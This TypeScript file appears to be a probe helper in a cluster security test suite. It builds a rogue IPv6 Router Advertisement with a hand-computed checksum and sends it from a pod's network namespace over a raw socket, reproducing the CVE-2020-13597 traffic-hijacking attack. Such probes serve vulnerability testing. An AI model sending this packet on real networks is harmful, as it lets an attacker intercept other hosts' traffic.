import { type Address, addressBytes } from "../../../model/address.ts";
import type { NetworkNamespace } from "../../../native/network-namespace.ts";
import { ProbeSocket } from "../../../native/probe-socket.ts";

const ROUTER = addressBytes("fe80::bad" as Address);
const ALL_NODES = addressBytes("ff02::1" as Address);
const ICMPV6 = 58;
const ROUTER_ADVERTISEMENT = 134;

function checksum(bytes: readonly number[]): number {
  let sum = 0;
  for (let at = 0; at < bytes.length; at += 2) sum += ((bytes[at] ?? 0) << 8) | (bytes[at + 1] ?? 0);
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
  return ~sum & 0xffff;
}

/** RFC 4861 section 4.2: a router for half an hour. */
function advertisement(): Uint8Array {
  const body = [ROUTER_ADVERTISEMENT, 0, 0, 0, 64, 0, 1_800 >> 8, 1_800 & 255, 0, 0, 0, 0, 0, 0, 0, 0];
  const sum = checksum([...ROUTER, ...ALL_NODES, 0, 0, 0, body.length, 0, 0, 0, ICMPV6, ...body]);
  body[2] = sum >> 8;
  body[3] = sum & 255;
  return Uint8Array.from([0x60, 0, 0, 0, 0, body.length, ICMPV6, 255, ...ROUTER, ...ALL_NODES, ...body]);
}

/** What a pod with raw sockets sends that wants the node's IPv6 traffic (CVE-2020-13597). */
export function advertiseRouter(from: NetworkNamespace): void {
  using socket = from.run(() => ProbeSocket.sendRaw(6));
  socket.send(advertisement(), { address: ALL_NODES, port: 0 });
}
